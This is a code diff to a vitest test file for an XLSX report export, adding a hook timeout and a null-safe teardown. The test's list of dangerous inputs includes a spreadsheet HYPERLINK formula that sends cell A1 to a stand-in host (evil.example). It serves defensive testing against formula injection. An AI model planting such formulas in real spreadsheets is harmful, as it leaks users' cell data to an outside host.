@@ -5,6 +5,9 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { safeCellText } from "../src/lib/xlsx-export";
 import { createTestApp, createUserWithToken, type TestContext } from "./helpers";
 
+/** Building an app on PGlite can take long on a busy machine. */
+const HOOK_TIMEOUT = 180_000;
+
 const DANGEROUS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
   "+SUM(1,2)",
@@ -43,10 +46,10 @@ describe("GET /api/v1/reports/export.xlsx", () => {
   beforeAll(async () => {
     ctx = await createTestApp();
     admin = await createUserWithToken(ctx, { isAdmin: true });
-  });
+  }, HOOK_TIMEOUT);
   afterAll(async () => {
-    await ctx.close();
-  });
+    await ctx?.close();
+  }, HOOK_TIMEOUT);
 
   it("writes no formula and no text cell starting with = + - @ tab or CR", async () => {
     // Admin-entered organisation names (a tab or CR in front is trimmed by the schema, leaving =).
